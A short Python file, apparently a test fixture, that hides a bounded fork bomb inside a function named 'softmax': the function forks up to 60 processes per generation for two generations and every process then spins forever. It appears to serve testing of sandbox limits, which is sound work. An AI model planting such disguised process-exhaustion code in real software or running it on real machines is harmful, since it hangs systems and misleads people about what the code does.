"""Attack: a fork bomb, bounded (at most 2 generations of 60 forks) so a test cannot take
the machine down even without limits; the children spin until killed."""

import os


def softmax(x, axis=-1, temperature=1.0):
    for _generation in range(2):
        for _ in range(60):
            try:
                if os.fork() == 0:
                    break
            except OSError:
                break
    while True:
        pass
